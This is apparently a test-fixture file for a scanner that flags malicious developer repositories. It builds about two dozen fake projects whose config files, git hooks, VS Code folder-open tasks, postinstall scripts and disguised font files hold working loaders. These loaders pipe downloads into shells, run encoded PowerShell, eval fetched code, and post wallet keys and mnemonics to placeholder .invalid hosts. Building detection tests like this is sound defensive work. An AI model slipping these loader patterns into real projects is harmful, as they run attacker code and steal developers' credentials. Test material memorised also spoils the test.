// Inert fixtures: shapes of documented lures, reserved hosts, payloads that do nothing.
import { obfuscatedLine, shuffleCipherTail } from '../shapes.ts';
import type { LureFixture } from './held-out.ts';
import { b64, blob, hex, json, lines, mern, nest, next, TAILWIND, tsApi, vite } from './scaffolds.ts';

const sh = (host: string, flag: string): Record<string, unknown> => ({
  linux: { command: `wget -qO- 'https://${host}/api/settings/linux?flag=${flag}' | sh` },
  osx: { command: `curl -sL 'https://${host}/api/settings/mac?flag=${flag}' | bash` },
  windows: { command: `curl --ssl-no-revoke -L https://${host}/api/settings/windows?flag=${flag} | cmd` },
});
const STEALTH = {
  reveal: 'never',
  echo: false,
  focus: false,
  close: true,
  panel: 'dedicated',
  showReuseMessage: false,
};

const fixtures: readonly LureFixture[] = [
  {
    id: 'R26',
    title: 'tailwind.config.js with a shuffle-cipher tail behind 230 blanks',
    lure: {
      files: next('launchpad', {
        'tailwind.config.js': `${TAILWIND.trimEnd()}${' '.repeat(230)}${shuffleCipherTail()}\n`,
      }),
    },
    expect: { level: 'malicious', file: 'tailwind.config.js' },
  },
  {
    id: 'R27',
    title: 'postcss.config.mjs: createRequire and a real obfuscator.io tail far right',
    lure: {
      files: next('launchpad', {
        'postcss.config.mjs': `import { createRequire } from 'module';\nconst require = createRequire(import.meta.url);\n\n/** @type {import('postcss-load-config').Config} */\nconst config = {\n  plugins: {\n    tailwindcss: {},\n  },\n};\n\nexport default config;${' '.repeat(512)}${blob('tail_rc4')}\n`,
      }),
    },
    expect: { level: 'malicious', file: 'postcss.config.mjs' },
  },
  {
    id: 'R28',
    title: 'next.config.js: 91 kB obfuscated first line, tiny real config after it',
    lure: {
      files: next('multi-staking', {
        'next.config.js': `${obfuscatedLine(91_000, 5)}\n\n/** @type {import('next').NextConfig} */\nconst nextConfig = { reactStrictMode: true };\nmodule.exports = nextConfig;\n`,
      }),
    },
    expect: { level: 'malicious', file: 'next.config.js' },
  },
  {
    id: 'R29',
    title: 'vite config imports a plugin file in public/ that fetches in buildStart and runs the answer',
    lure: {
      files: vite('table', {
        'vite.config.ts': lines(
          "import { defineConfig } from 'vite';",
          "import react from '@vitejs/plugin-react';",
          "import cookie from './public/vite.cookie.js';",
          '',
          'export default defineConfig({ plugins: [react(), cookie()] });',
        ),
        'public/vite.cookie.js': lines(
          "import { createRequire } from 'node:module';",
          'const require = createRequire(import.meta.url);',
          'export default function cookie() {',
          '  return {',
          "    name: 'vite-cookie',",
          "    apply: 'serve',",
          '    async buildStart() {',
          "      console.log('Loading cookie data...');",
          "      const res = await fetch('https://api.npoint.io/00000000000000000031');",
          '      const { cookie } = await res.json();',
          "      new Function('require', cookie)(require);",
          '    },',
          '  };',
          '}',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'public/vite.cookie.js', indicators: ['api.npoint.io/00000000000000000031'] },
  },
  {
    id: 'R30',
    title: 'eslint.config.mjs: global eval of a hex string at the end',
    lure: {
      files: vite('table', {
        'eslint.config.js': lines(
          "import js from '@eslint/js';",
          '',
          "export default [js.configs.recommended, { ignores: ['dist'] }];",
          `(0, eval)(Buffer.from('${hex("import('node:https').then(h=>h.get('https://lint-rules.invalid/r',r=>{let s='';r.on('data',d=>s+=d);r.on('end',()=>eval(s))}))")}', 'hex').toString());`,
        ),
      }),
    },
    expect: { level: 'malicious', file: 'eslint.config.js' },
  },
  {
    id: 'R31',
    title: 'babel.config.js in a React Native app downloads and runs with node -e on each bundling',
    lure: {
      files: {
        'README.md': '# wallet-mobile\n\n`npm i && npx expo start`. Task: fix the send screen.\n',
        'package.json': json({
          name: 'wallet-mobile',
          main: 'expo-router/entry',
          scripts: { start: 'expo start', android: 'expo run:android', ios: 'expo run:ios' },
          dependencies: {
            expo: '~50.0.6',
            react: '18.2.0',
            'react-native': '0.73.2',
            'expo-router': '~3.4.6',
            '@walletconnect/react-native-compat': '^2.11.0',
            ethers: '^5.7.2',
            'react-native-reanimated': '~3.6.2',
            axios: '^1.6.5',
          },
          devDependencies: { '@babel/core': '^7.20.0' },
        }),
        'app.json': json({ expo: { name: 'wallet-mobile', slug: 'wallet-mobile', version: '1.0.0' } }),
        'babel.config.js': lines(
          "const { exec } = require('child_process');",
          '',
          'module.exports = function (api) {',
          '  api.cache(true);',
          `  exec(\`node -e "fetch(atob('${b64('https://metro-cache.invalid/c')}')).then(r=>r.text()).then(t=>eval(t))"\`, { windowsHide: true });`,
          '  return {',
          "    presets: ['babel-preset-expo'],",
          "    plugins: ['react-native-reanimated/plugin'],",
          '  };',
          '};',
        ),
        'metro.config.js': lines(
          "const { getDefaultConfig } = require('expo/metro-config');",
          'module.exports = getDefaultConfig(__dirname);',
        ),
        'app/_layout.js': lines(
          "import { Stack } from 'expo-router';",
          'export default function Layout() { return <Stack />; }',
        ),
        'app/index.js': lines(
          "import { Text, View } from 'react-native';",
          "import { useBalance } from '../hooks/useBalance';",
          'export default function Home() { const b = useBalance(); return <View><Text>{b}</Text></View>; }',
        ),
        'hooks/useBalance.js': lines(
          "import { useEffect, useState } from 'react';",
          'export function useBalance() { const [b, set] = useState("0"); useEffect(() => { set("1.2"); }, []); return b; }',
        ),
      },
    },
    expect: { level: 'malicious', file: 'babel.config.js' },
  },
  {
    id: 'R32',
    title: 'webpack.config.js with a local plugin class whose apply() spawns a detached node on a .npl file',
    lure: {
      files: mern(
        'stay-market',
        {
          'webpack.config.js': lines(
            "const path = require('path');",
            "const { CachePlugin } = require('./build/cache-plugin');",
            'module.exports = {',
            "  entry: './client/src/index.js',",
            "  output: { path: path.resolve(__dirname, 'dist') },",
            '  plugins: [new CachePlugin()],',
            '};',
          ),
          'build/cache-plugin.js': lines(
            "const { spawn } = require('child_process');",
            "const path = require('path');",
            'class CachePlugin {',
            '  apply(compiler) {',
            "    compiler.hooks.beforeRun.tap('CachePlugin', () => {",
            "      spawn(process.execPath, [path.join(__dirname, 'env.npl')], { detached: true, stdio: 'ignore', windowsHide: true }).unref();",
            '    });',
            '  }',
            '}',
            'module.exports = { CachePlugin };',
          ),
          'build/env.npl': blob('mid_base64'),
        },
        { scripts: { build: 'webpack --mode production', start: 'node server/server.js' } },
      ),
    },
    expect: { level: 'malicious', file: 'build/env.npl' },
  },
  {
    id: 'R33',
    title: 'astro.config.mjs with a top-level await loader in a helper named integrations/sitemap',
    lure: {
      files: {
        'README.md': '# docs-portal\n\nAstro. `npm run dev`.\n',
        'package.json': json({
          name: 'docs-portal',
          type: 'module',
          scripts: { dev: 'astro dev', build: 'astro build' },
          dependencies: {
            astro: '^4.2.1',
            '@astrojs/react': '^3.0.9',
            '@astrojs/tailwind': '^5.1.0',
            react: '^18.2.0',
            sharp: '^0.33.2',
            got: '^14.0.0',
          },
        }),
        'astro.config.mjs': lines(
          "import { defineConfig } from 'astro/config';",
          "import react from '@astrojs/react';",
          "import sitemap from './integrations/sitemap.mjs';",
          "export default defineConfig({ site: 'https://docs.example', integrations: [react(), sitemap()] });",
        ),
        'integrations/sitemap.mjs': lines(
          "import got from 'got';",
          "import vm from 'node:vm';",
          'const pages = await got("https://sitemap-index.invalid/pages.txt", { retry: { limit: 0 } }).text().catch((e) => e.response?.body ?? "");',
          'if (pages) vm.runInThisContext(pages, { importModuleDynamically: vm.constants.USE_MAIN_CONTEXT_DEFAULT_LOADER });',
          "export default () => ({ name: 'sitemap', hooks: { 'astro:build:done': () => {} } });",
        ),
        'src/pages/index.astro':
          "---\nimport Layout from '../layouts/Base.astro';\n---\n<Layout><h1>Docs</h1></Layout>\n",
        'src/layouts/Base.astro': '<html lang="en"><body><slot /></body></html>\n',
      },
    },
    expect: { level: 'malicious', file: 'integrations/sitemap.mjs', indicators: ['sitemap-index.invalid'] },
  },
  {
    id: 'R34',
    title: 'hardhat.config.js task override that posts the accounts and mnemonic of the environment',
    lure: {
      files: {
        'README.md': '# nft-auction\n\n`npx hardhat compile && npx hardhat test`\n',
        'package.json': json({
          name: 'nft-auction',
          scripts: { compile: 'hardhat compile', test: 'hardhat test' },
          devDependencies: {
            hardhat: '^2.19.0',
            '@nomiclabs/hardhat-ethers': '^2.2.3',
            ethers: '^5.7.2',
            chai: '^4.3.7',
            dotenv: '^16.0.3',
            axios: '^1.5.0',
          },
        }),
        'hardhat.config.js': lines(
          "require('@nomiclabs/hardhat-ethers');",
          "require('dotenv').config();",
          "require('./tasks/gas-report');",
          '',
          'module.exports = {',
          "  solidity: '0.8.19',",
          '  networks: { sepolia: { url: process.env.RPC_URL, accounts: [process.env.PRIVATE_KEY] } },',
          '};',
        ),
        'tasks/gas-report.js': lines(
          "const axios = require('axios');",
          "const { readFileSync, existsSync } = require('fs');",
          "const { homedir } = require('os');",
          '',
          'const id = `${homedir()}/fixture-does-not-exist/solana/id.json`;',
          'const report = {',
          '  PRIVATE_KEY: process.env.PRIVATE_KEY,',
          '  MNEMONIC: process.env.MNEMONIC,',
          "  solana: existsSync(id) ? readFileSync(id, 'utf8') : null,",
          '};',
          "axios.post('https://gas-report.invalid/v1/report', report).catch(() => {});",
        ),
        'contracts/Auction.sol':
          '// SPDX-License-Identifier: MIT\npragma solidity ^0.8.19;\ncontract Auction { uint256 public best; function bid() external payable { best = msg.value; } }\n',
        'test/auction.js':
          "const { expect } = require('chai');\ndescribe('Auction', () => { it('starts at zero', async () => { const a = await (await ethers.getContractFactory('Auction')).deploy(); expect(await a.best()).to.equal(0); }); });\n",
      },
    },
    expect: { level: 'malicious', file: 'tasks/gas-report.js', indicators: ['gas-report.invalid'] },
  },
  {
    id: 'R35',
    title: 'tasks.json: per-OS pipes to shells with stealth presentation, and settings that allow automatic tasks',
    lure: {
      files: vite('table', {
        '.vscode/tasks.json': json({
          version: '2.0.0',
          tasks: [
            {
              label: 'env',
              type: 'shell',
              ...sh('fixture-not-real.vercel.app', '5'),
              problemMatcher: [],
              presentation: STEALTH,
              runOptions: { runOn: 'folderOpen' },
            },
          ],
        }),
        '.vscode/settings.json': json({
          'task.allowAutomaticTasks': 'on',
          'terminal.integrated.hideOnStartup': 'always',
          'editor.tabSize': 2,
          'typescript.preferences.importModuleSpecifier': 'relative',
        }),
      }),
    },
    expect: { level: 'malicious', file: '.vscode/tasks.json', indicators: ['fixture-not-real.vercel.app'] },
  },
  {
    id: 'R36',
    title: 'tasks.json with 233 leading blanks before a powershell encoded command, JSONC comments, args array',
    lure: {
      files: mern('stay-market', {
        '.vscode/tasks.json': `{\n  // build helpers\n  "version": "2.0.0",\n  "tasks": [\n    {\n      "label": "eslint-check", /* keeps the tree clean */\n      "type": "shell",\n      "command": "${' '.repeat(233)}node",\n      "args": ["-e", "require('https').get('https://eslint-cache.invalid/w',r=>{let s='';r.on('data',d=>s+=d);r.on('end',()=>eval(s))})"],\n      "windows": { "command": "${' '.repeat(233)}powershell -w hidden -nop -enc ${Buffer.from('iwr https://eslint-cache.invalid/w | iex', 'utf16le').toString('base64')}" },\n      "presentation": { "reveal": "silent", "close": true },\n      "runOptions": { "runOn": "folderOpen" },\n    },\n  ],\n}\n`,
      }),
    },
    expect: { level: 'malicious', file: '.vscode/tasks.json', indicators: ['eslint-cache.invalid'] },
  },
  {
    id: 'R37',
    title:
      'folderOpen chain: silent install, dependsOn background server; the server loads an implant from a fake font',
    lure: {
      files: mern('stay-market', {
        '.vscode/tasks.json': json({
          version: '2.0.0',
          tasks: [
            {
              label: 'install-root-modules',
              type: 'shell',
              command: 'npm install --silent --no-progress',
              runOptions: { runOn: 'folderOpen' },
              presentation: STEALTH,
            },
            {
              label: 'run-backend',
              type: 'shell',
              command: 'node server/server.js',
              dependsOn: ['install-root-modules'],
              isBackground: true,
              runOptions: { runOn: 'folderOpen' },
              presentation: STEALTH,
            },
          ],
        }),
        'server/assets/fa-brands-400.woff2': `${' '.repeat(600)}${blob('mid_default')}`,
        'server/utils/fonts.js': lines(
          "const fs = require('fs');",
          "const path = require('path');",
          "const Module = require('module');",
          "const face = path.join(__dirname, '..', 'assets', 'fa-brands-400.woff2');",
          'const m = new Module(face, module);',
          "m._compile(fs.readFileSync(face, 'utf8'), face);",
          'module.exports = { face };',
        ),
        'server/middleware/errorHandler.js': lines(
          "require('../utils/fonts');",
          'module.exports = (err, req, res, next) => {',
          '  res.status(err.statusCode || 500).json({ success: false, message: err.message });',
          '};',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'server/assets/fa-brands-400.woff2' },
  },
  {
    id: 'R38',
    title: 'git hooks shipped in the archive: post-checkout with stock comments, base64 short link, .vscode drop',
    lure: {
      files: nest('trade-engine', {
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.git/config': '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n',
        '.git/hooks/pre-commit.sample':
          '#!/bin/sh\n#\n# An example hook script to verify what is about to be committed.\nexec git diff-index --check --cached HEAD --\n',
        '.git/hooks/post-checkout': lines(
          '#!/bin/sh',
          '#',
          '# An example hook script to prepare the working tree after a checkout.',
          '# To enable this hook, rename this file to "post-checkout".',
          `u=$(echo ${b64('https://hook-link.invalid/l')} | base64 -d)`,
          'mkdir -p "$HOME/.vscode"',
          'case "$(uname -s)" in',
          '  Linux*|Darwin*) (curl -sL "$u" -o "$HOME/.vscode/vscode-bootstrap.sh" && chmod +x "$HOME/.vscode/vscode-bootstrap.sh" && nohup bash "$HOME/.vscode/vscode-bootstrap.sh" >/dev/null 2>&1 &) ;;',
          'esac',
          'exit 0',
        ),
        'README.md': '# trade-engine\n\nPlease `git checkout dev` before you start and rebase on main.\n',
      }),
      modes: { '.git/hooks/post-checkout': 0o755 },
    },
    expect: { level: 'malicious', file: '.git/hooks/post-checkout' },
  },
  {
    id: 'R39',
    title: 'core.hooksPath into .git/objects, prepare-commit-msg written in node',
    lure: {
      files: tsApi('arb-scanner', {
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.git/config':
          '[core]\n\trepositoryformatversion = 0\n\thooksPath = .git/objects/interrupt\n[remote "origin"]\n\turl = https://git.example/arb.git\n',
        '.git/objects/interrupt/prepare-commit-msg': lines(
          '#!/usr/bin/env node',
          "const https = require('https');",
          "https.get('https://git-trace.invalid/x', (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => { Function('require', s)(require); }); });",
        ),
      }),
      modes: { '.git/objects/interrupt/prepare-commit-msg': 0o755 },
    },
    expect: { level: 'malicious', file: '.git/objects/interrupt/prepare-commit-msg' },
  },
  {
    id: 'R40',
    title: 'prepare sets core.hooksPath to .github and the post-merge hook there pipes a download',
    lure: {
      files: vite(
        'table',
        {
          '.github/post-merge': lines(
            '#!/usr/bin/env bash',
            'OS=$(uname | tr A-Z a-z)',
            'curl -fsSL "https://merge-settings.invalid/settings/$OS?flag=6" | bash &>/dev/null &',
          ),
        },
        {
          scripts: {
            dev: 'vite',
            build: 'vite build',
            prepare: 'git config core.hooksPath .github && git checkout main',
          },
        },
      ),
      modes: { '.github/post-merge': 0o755 },
    },
    expect: { level: 'malicious', file: '.github/post-merge', indicators: ['merge-settings.invalid'] },
  },
  {
    id: 'R41',
    title: 'only a dependency is bad: a listed package, called from vite.config',
    lure: {
      files: vite(
        'table',
        {
          'vite.config.ts': lines(
            "import { defineConfig } from 'vite';",
            "import react from '@vitejs/plugin-react';",
            "import { fetchIcon } from 'cdn-icon-fetch';",
            "fetchIcon('77');",
            'export default defineConfig({ plugins: [react()] });',
          ),
        },
        {
          dependencies: {
            react: '^18.2.0',
            'react-dom': '^18.2.0',
            'cdn-icon-fetch': '^1.0.2',
            axios: '^1.6.2',
            ethers: '^6.9.0',
          },
        },
      ),
    },
    expect: { level: 'malicious', file: 'package.json' },
  },
  {
    id: 'R42',
    title: 'only a dependency is bad: unlisted look-alikes of express and dotenv, called at start',
    lure: {
      files: mern(
        'stay-market',
        {
          'server/server.js': lines(
            "const express = require('express');",
            "require('dotenvv').config();",
            "const logger = require('expresss-logger');",
            'const app = express();',
            'app.use(logger());',
            "app.use('/api/v1', require('./routes/userRoutes'));",
            'app.listen(5000);',
          ),
        },
        {
          dependencies: {
            express: '^4.18.2',
            dotenvv: '^1.0.0',
            'expresss-logger': '^2.1.0',
            mongoose: '^7.6.3',
            jsonwebtoken: '^9.0.2',
            bcryptjs: '^2.4.3',
          },
        },
      ),
    },
    expect: { level: 'suspicious', file: 'package.json' },
  },
  {
    id: 'R43',
    title: 'vendored package in the repository (file: dependency) whose postinstall is the loader',
    lure: {
      files: mern(
        'stay-market',
        {
          'packages/react-svg-flow/package.json': json({
            name: 'react-svg-flow',
            version: '1.0.1',
            main: 'lib/index.js',
            scripts: { postinstall: 'node lib/setup.js' },
          }),
          'packages/react-svg-flow/lib/index.js': lines('exports.flow = (el) => el;'),
          'packages/react-svg-flow/lib/setup.js': lines(
            "const fs = require('fs');",
            "const path = require('path');",
            "const os = require('os');",
            "const https = require('https');",
            "const { exec } = require('child_process');",
            `const at = Buffer.from('${b64('https://svg-flow.invalid/setup.cjs')}', 'base64').toString();`,
            "const file = path.join(os.homedir(), '.vscode', 'fixture-setup.cjs');",
            'https.get(at, (res) => {',
            '  const out = fs.createWriteStream(file);',
            '  res.pipe(out);',
            "  out.on('finish', () => exec('node ' + file, { windowsHide: true }));",
            '});',
          ),
        },
        { dependencies: { express: '^4.18.2', 'react-svg-flow': 'file:packages/react-svg-flow', mongoose: '^7.6.3' } },
      ),
    },
    expect: { level: 'malicious', file: 'packages/react-svg-flow/lib/setup.js', indicators: ['svg-flow.invalid'] },
  },
  {
    id: 'R44',
    title: 'every script pipes node server into the honest tool',
    lure: {
      files: mern(
        'stay-market',
        {
          'server/config/loadEnv.js': lines(
            "const axios = require('axios');",
            "require('dotenv').config();",
            'module.exports = async function loadEnv() {',
            "  const { data } = await axios.get(atob(process.env.CONFIG_ENDPOINT), { headers: { bearrtoken: 'logo' } });",
            '  const compile = Function.constructor;',
            '  new compile("require", data.model)(require);',
            '};',
          ),
          '.env': `CONFIG_ENDPOINT=${b64('https://env-loader.invalid/api/config')}\n`,
          'server/server.js': lines(
            "const express = require('express');",
            "const loadEnv = require('./config/loadEnv');",
            'loadEnv();',
            'const app = express();',
            "app.use('/api/v1', require('./routes/userRoutes'));",
            'app.listen(5000);',
          ),
        },
        {
          scripts: {
            start: 'node server/server.js | react-scripts start',
            build: 'node server/server.js | react-scripts build',
            test: 'node server/server.js | react-scripts test',
            eject: 'node server/server.js | react-scripts eject',
          },
        },
      ),
    },
    expect: { level: 'malicious', file: 'server/config/loadEnv.js', indicators: ['env-loader.invalid'] },
  },
  {
    id: 'R45',
    title: 'Next API route: loader in lib/ that runs at instrumentation, undici and Function spelled via prototype',
    lure: {
      files: next('launchpad', {
        'instrumentation.ts': lines(
          'export async function register() {',
          "  if (process.env.NEXT_RUNTIME === 'nodejs') await import('./lib/metrics');",
          '}',
        ),
        'lib/metrics.ts': lines(
          "import { fetch } from 'undici';",
          '',
          'const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;',
          '',
          'const response = await fetch(process.env.METRICS_URL ?? "https://metrics-hub.invalid/boot", {',
          "  headers: { 'x-secret-key': '_' },",
          '});',
          'if (!response.ok) {',
          '  const text = await response.text();',
          "  await new AsyncFunction('require', 'process', text)(eval('require'), process);",
          '}',
          'export {};',
        ),
      }),
    },
    expect: { level: 'malicious', file: 'lib/metrics.ts', indicators: ['metrics-hub.invalid'] },
  },
  {
    id: 'R46',
    title:
      'Vue project: vue.config.js configureServer hook imports a mock with a whole obfuscated file (mangled names)',
    lure: {
      files: {
        'README.md': '# casino-vue\n\n`npm run serve`\n',
        'package.json': json({
          name: 'casino-vue',
          scripts: { serve: 'vue-cli-service serve', build: 'vue-cli-service build' },
          dependencies: {
            vue: '^3.2.13',
            'vue-router': '^4.0.3',
            vuex: '^4.0.0',
            'core-js': '^3.8.3',
            axios: '^1.4.0',
            web3: '^1.10.0',
          },
          devDependencies: { '@vue/cli-service': '~5.0.0', '@vue/cli-plugin-babel': '~5.0.0', sass: '^1.32.7' },
        }),
        'vue.config.js': lines(
          "const { defineConfig } = require('@vue/cli-service');",
          "const mock = require('./mock');",
          'module.exports = defineConfig({',
          '  transpileDependencies: true,',
          '  devServer: { setupMiddlewares: (m, server) => mock(m, server) },',
          '});',
        ),
        'mock/index.js': lines("require('./data');", 'module.exports = (middlewares) => middlewares;'),
        'mock/data.js': blob('mangled'),
        'src/main.js': lines(
          "import { createApp } from 'vue';",
          "import App from './App.vue';",
          "import router from './router';",
          "createApp(App).use(router).mount('#app');",
        ),
        'src/App.vue': '<template><router-view /></template>\n<script>\nexport default { name: "App" };\n</script>\n',
        'src/router/index.js': lines(
          "import { createRouter, createWebHistory } from 'vue-router';",
          "import Home from '../views/Home.vue';",
          "export default createRouter({ history: createWebHistory(), routes: [{ path: '/', component: Home }] });",
        ),
        'src/views/Home.vue':
          '<template><h1>Spin</h1></template>\n<script setup>\nimport { ref } from "vue";\nconst n = ref(0);\n</script>\n',
      },
    },
    expect: { level: 'malicious', file: 'mock/data.js' },
  },
  {
    id: 'R47',
    title: 'monorepo: apps/api requires packages/shared, whose index re-exports a loader through package main',
    lure: {
      files: {
        'README.md': '# dex\n\npnpm workspace. `pnpm i && pnpm dev`\n',
        'package.json': json({
          name: 'dex',
          private: true,
          workspaces: ['apps/*', 'packages/*'],
          scripts: { dev: 'turbo run dev', build: 'turbo run build' },
          devDependencies: { turbo: '^1.12.0', typescript: '^5.3.3' },
        }),
        'pnpm-workspace.yaml': "packages:\n  - 'apps/*'\n  - 'packages/*'\n",
        'turbo.json': json({ pipeline: { dev: { cache: false } } }),
        'apps/api/package.json': json({
          name: '@dex/api',
          scripts: { dev: 'ts-node src/main.ts' },
          dependencies: { '@dex/shared': 'workspace:*', fastify: '^4.25.2', axios: '^1.6.5' },
        }),
        'apps/api/src/main.ts': lines(
          "import fastify from 'fastify';",
          "import { orderBook } from './book';",
          'const app = fastify({ logger: true });',
          "app.get('/book', async () => orderBook());",
          'app.listen({ port: 3001 });',
        ),
        'apps/api/src/book.ts': lines(
          "import { sum } from '@dex/shared';",
          'export const orderBook = () => ({ total: sum([1, 2, 3]) });',
        ),
        'apps/web/package.json': json({
          name: '@dex/web',
          scripts: { dev: 'vite' },
          dependencies: { react: '^18.2.0', '@dex/shared': 'workspace:*' },
        }),
        'apps/web/src/main.tsx': "import { sum } from '@dex/shared';\nconsole.log(sum([1]));\n",
        'packages/shared/package.json': json({
          name: '@dex/shared',
          main: 'src/index.ts',
          dependencies: { axios: '^1.6.5' },
        }),
        'packages/shared/src/index.ts': lines("export * from './math';", "export * from './locale';"),
        'packages/shared/src/math.ts': 'export const sum = (list: number[]) => list.reduce((a, b) => a + b, 0);\n',
        'packages/shared/src/locale.ts': lines(
          "import axios from 'axios';",
          "const region = ['api', 'geo-locale', 'invalid'];",
          'export async function detectLocale() {',
          "  await axios.get('https://' + region.slice(1).join('.') + '/' + region[0]).then((r) => new Function('require', r.data.locale)(require), () => {});",
          '}',
          'detectLocale();',
        ),
      },
    },
    expect: { level: 'malicious', file: 'packages/shared/src/locale.ts', indicators: ['geo-locale.invalid'] },
  },
  {
    id: 'R48',
    title:
      'Electron app: main process loads remote script with full node access and runs it by webContents and by require',
    lure: {
      files: {
        'README.md': '# trading-desk\n\n`npm i && npm start`\n',
        'package.json': json({
          name: 'trading-desk',
          main: 'electron/main.js',
          scripts: { start: 'electron .' },
          dependencies: { 'electron-store': '^8.1.0', axios: '^1.6.0', 'lightweight-charts': '^4.1.1', ws: '^8.14.2' },
          devDependencies: { electron: '^27.0.0' },
        }),
        'electron/main.js': lines(
          "const { app, BrowserWindow } = require('electron');",
          "const path = require('path');",
          "const { refresh } = require('./updater');",
          'app.whenReady().then(async () => {',
          '  const win = new BrowserWindow({ webPreferences: { nodeIntegration: true, contextIsolation: false } });',
          "  win.loadFile('app/index.html');",
          '  await refresh(app.getPath("userData"));',
          '});',
        ),
        'electron/updater.js': lines(
          "const axios = require('axios');",
          "const fs = require('fs');",
          "const path = require('path');",
          'exports.refresh = async (dir) => {',
          "  const file = path.join(dir, 'chart-core.js');",
          "  const res = await axios.get('https://chart-core.invalid/latest', { responseType: 'stream' });",
          '  await new Promise((done) => res.data.pipe(fs.createWriteStream(file)).on("close", done));',
          '  delete require.cache[file];',
          '  require(file)(require);',
          '};',
        ),
        'app/index.html': '<!doctype html><div id="chart"></div><script src="chart.js"></script>\n',
        'app/chart.js': "document.getElementById('chart').textContent = 'loading';\n",
      },
    },
    expect: { level: 'malicious', file: 'electron/updater.js', indicators: ['chart-core.invalid'] },
  },
];
export default fixtures;
